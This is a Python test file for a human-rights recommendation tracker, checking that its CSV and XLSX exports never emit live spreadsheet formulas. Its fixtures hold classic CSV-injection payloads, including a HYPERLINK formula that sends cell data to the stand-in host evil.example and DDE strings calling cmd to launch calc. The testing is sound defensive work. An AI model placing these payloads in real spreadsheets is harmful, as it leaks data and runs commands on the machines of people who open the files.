"""No live formula leaves the site (issue 14, finding 2).

Texts that start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return — in an imported UPR Info
export or in a stakeholder's assessment — come out of every CSV as a cell that does not start with
that character, and out of every XLSX as a text cell holding the original words (never a formula).
"""

from __future__ import annotations

import ast
import csv
import io
import zipfile
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from rightstrack.cli.main import app
from rightstrack.outputs.spreadsheets import FORMULA_STARTS, TextWorkbook, csv_text, workbook_bytes
from tests.conftest import ROOT, shared_path

#: One attack per dangerous first character: the classic payloads of CSV injection.
ATTACKS = {
    "=": '=HYPERLINK("https://evil.example/?d="&A1,"Click here")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t": "\t=1+1 Ratify the Convention against Torture",
    "\r": "\r=1+1 Abolish the death penalty",
}
DANGEROUS = tuple(ATTACKS)
runner = CliRunner()


def _kazakhstan_export_with_attacks(tmp_path: Path) -> Path:
    """Kazakhstan's 2010 rows of the real UPR Info export, the first six recommendations' texts
    replaced by the attacks (every row of a recommendation, one per recommending State)."""
    source = shared_path("data", "upr-info", "recommendations_train.csv")
    with source.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        fields = list(reader.fieldnames or [])
        rows = [r for r in reader if r["state_under_review"] == "Kazakhstan" and r["year"] == "2010"]
    texts = list(dict.fromkeys(row["recommendation"] for row in rows))
    replaced = dict(zip(texts, ATTACKS.values(), strict=False))
    for row in rows:
        row["recommendation"] = replaced.get(row["recommendation"], row["recommendation"])
    target = tmp_path / "upr-info-kazakhstan-attacks.csv"
    with target.open("w", encoding="utf-8", newline="") as out:
        writer = csv.DictWriter(out, fieldnames=fields)  # the attacker's file, not our output
        writer.writeheader()
        writer.writerows(rows)
    return target


@dataclass(frozen=True)
class Attacked:
    recommendations: set[str]  # the recommendation texts as stored: the importer trims a tab or CR
    assessments: set[str]  # the stakeholder's words, kept as written
    organisation: str

    @property
    def texts(self) -> set[str]:
        return self.recommendations | self.assessments | {self.organisation}


@pytest.fixture
def attacked(vocabularies: None, tmp_path: Path) -> Attacked:
    """The export imported, and a published assessment whose words are each attack."""
    from rightstrack.assessments.models import Assessment, Stakeholder, Status
    from rightstrack.documents.importing import import_files
    from rightstrack.recommendations.models import Recommendation

    import_files([_kazakhstan_export_with_attacks(tmp_path)])
    recommendations = list(Recommendation.objects.filter(review__state_id="KAZ").order_by("sort_key"))
    stored = {rec.text for rec in recommendations if rec.text[:1] in FORMULA_STARTS}
    assert len(stored) == 6 and {text[:1] for text in stored} == {"=", "+", "-", "@"}
    organisation = Stakeholder.objects.create(name="=cmd|' /C calc'!A0", acronym="@ORG", kind="ngo")
    for recommendation, words in zip(recommendations, ATTACKS.values(), strict=False):
        Assessment.private_objects.create(
            recommendation=recommendation,
            stakeholder=organisation,
            original_text=words,
            assessed_on=date(2012, 1, 1),
            status=Status.PUBLISHED,
        )
    return Attacked(stored, set(ATTACKS.values()), organisation.name)


def _check_csv(content: str, expected: set[str]) -> set[str]:
    """No cell starts a formula; returns the expected texts found behind their quote."""
    found = set()
    for row in csv.reader(io.StringIO(content)):
        for cell in row:
            assert cell[:1] not in FORMULA_STARTS or _is_number(cell), cell
            if cell.startswith("'") and cell[1:] in expected:
                found.add(cell[1:])
    return found


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _check_xlsx(content: bytes, expected: set[str]) -> set[str]:
    """No formula cell anywhere; returns the expected texts found as text cells, word for word."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name
    found = set()
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    if cell.value in expected:
                        found.add(cell.value)
    return found


def test_the_recommendation_list_downloads_carry_no_formula(attacked: Attacked) -> None:
    client = Client()
    response = client.get("/recommendations/download.csv?state=KAZ")
    assert response.status_code == 200
    content = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[arg-type]
    assert _check_csv(content, attacked.texts) == attacked.recommendations
    response = client.get("/recommendations/download.xlsx?state=KAZ")
    assert response.status_code == 200
    assert _check_xlsx(response.content, attacked.texts) == attacked.recommendations


def test_the_states_open_data_export_carries_no_formula(attacked: Attacked, tmp_path: Path) -> None:
    result = runner.invoke(app, ["export", "--state", "KAZ", "--format", "csv"])
    assert result.exit_code == 0, result.output
    assert _check_csv(result.stdout, attacked.texts) == attacked.recommendations
    target = tmp_path / "kaz.xlsx"
    result = runner.invoke(app, ["export", "--state", "KAZ", "--format", "xlsx", "-o", str(target)])
    assert result.exit_code == 0, result.output
    assert _check_xlsx(target.read_bytes(), attacked.texts) == attacked.texts


def test_the_whole_picture_report_carries_no_formula(attacked: Attacked, settings: Any) -> None:
    # the worker renders report files: here it runs at once, in the request
    settings.TASKS = {"default": {"BACKEND": "django.tasks.backends.immediate.ImmediateBackend"}}
    response = Client().get("/states/KAZ/reports/state.xlsx?date=2026-01-01")
    assert response.status_code == 200, response.content.decode()
    assert attacked.recommendations <= _check_xlsx(response.content, attacked.texts)


def test_the_stakeholder_sheet_carries_no_formula(attacked: Attacked) -> None:
    from rightstrack.assessments.sheets import sheet_for
    from rightstrack.core.records import StakeholderRecord
    from rightstrack.recommendations.models import Review

    review = Review.objects.get(state_id="KAZ", cycle=1)
    content = sheet_for(review, StakeholderRecord(attacked.organisation, "@ORG", "ngo"))
    expected = attacked.recommendations | {attacked.organisation, "@ORG"}
    assert _check_xlsx(content, attacked.texts | {"@ORG"}) == expected


def test_classifying_a_csv_writes_no_formula(tmp_path: Path) -> None:
    from rightstrack.analysis.classify import classify_csv

    source, target = tmp_path / "mine.csv", tmp_path / "predicted.csv"
    with source.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)  # the user's own file, attacks as they are
        writer.writerow(["recommendation"])
        writer.writerows([text] for text in ATTACKS.values())
    assert classify_csv(source, target) == len(ATTACKS)
    with target.open(encoding="utf-8", newline="") as handle:  # a carriage return stays one
        assert _check_csv(handle.read(), set(ATTACKS.values())) == set(ATTACKS.values())


@pytest.mark.parametrize("first", DANGEROUS, ids=[repr(c) for c in DANGEROUS])
def test_a_text_starting_with_a_formula_character_stays_words(first: str) -> None:
    text = ATTACKS[first]
    (cell,) = next(iter(list(csv.reader(io.StringIO(csv_text([text], []))))))
    assert cell == "'" + text
    for write_only in (False, True):
        workbook = TextWorkbook(write_only=write_only)
        sheet = workbook.create_sheet("S")
        sheet.append([text, -1, 2.5])
        cells = next(load_workbook(io.BytesIO(workbook_bytes(workbook)))["S"].iter_rows())
        assert [(c.value, c.data_type) for c in cells] == [(text, "s"), (-1, "n"), (2.5, "n")]


def test_numbers_stay_numbers_in_a_csv() -> None:
    rows = list(csv.reader(io.StringIO(csv_text(["n", "text", "score"], [[-1, "-1", -0.5]]))))
    assert rows[1] == ["-1", "-1", "-0.5"]


#: The only module allowed to build a CSV writer or a workbook.
WRITER = ROOT / "src" / "rightstrack" / "outputs" / "spreadsheets.py"


#: Writers of spreadsheet files: (module, name) built or called directly.
DIRECT = {("csv", "writer"), ("csv", "DictWriter"), ("openpyxl", "Workbook"), ("xlsxwriter", "Workbook")}


def _direct_writers(path: Path) -> list[str]:
    """Where ``path`` builds a CSV writer or a workbook itself, imports XlsxWriter or calls pandas'
    ``to_csv``/``to_excel``."""
    tree = ast.parse(path.read_text(encoding="utf-8"))
    modules: dict[str, str] = {}  # local name -> module, for `import csv as c`
    names: dict[str, tuple[str, str]] = {}  # local name -> (module, name), for `from csv import writer`
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            for alias in node.names:
                modules[alias.asname or alias.name] = alias.name
        elif isinstance(node, ast.ImportFrom) and node.module:
            for alias in node.names:
                names[alias.asname or alias.name] = (node.module.split(".")[0], alias.name)
    for node in ast.walk(tree):
        if isinstance(node, ast.Import | ast.ImportFrom):
            imported = [a.name for a in node.names] + [getattr(node, "module", None) or ""]
            if any(name.split(".")[0] == "xlsxwriter" for name in imported):
                found.append(f"{path.name}:{node.lineno} imports xlsxwriter")
        if not isinstance(node, ast.Call):
            continue
        func, called = node.func, None
        if isinstance(func, ast.Name):
            called = names.get(func.id)
        elif isinstance(func, ast.Attribute):
            if func.attr in {"to_csv", "to_excel"}:
                found.append(f"{path.name}:{node.lineno} calls {func.attr}()")
            if isinstance(func.value, ast.Name) and func.value.id in modules:
                called = (modules[func.value.id].split(".")[0], func.attr)
        if called in DIRECT:
            found.append(f"{path.name}:{node.lineno} calls {called[0]}.{called[1]}()")
    return found


def test_no_module_but_the_shared_writer_writes_csv_or_xlsx() -> None:
    package = ROOT / "src" / "rightstrack"
    offenders = [
        finding
        for path in sorted(package.rglob("*.py"))
        if path != WRITER
        for finding in _direct_writers(path)
    ]
    assert offenders == [], "write CSV and XLSX through rightstrack.outputs.spreadsheets"
    assert _direct_writers(WRITER)  # the check does see a writer where there is one


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from([*sorted(FORMULA_STARTS), " ", "a", "1", ",", '"', ";", "'"])))
def test_no_csv_cell_starts_a_formula_whatever_the_text(text: str) -> None:
    (row,) = list(csv.reader(io.StringIO(csv_text([text], []), newline="")))
    (cell,) = row or [""]
    assert cell in (text, "'" + text)
    first = cell.lstrip(" \u00a0")[:1]
    assert (cell[:1] not in FORMULA_STARTS and first not in FORMULA_STARTS) or _is_number(cell)
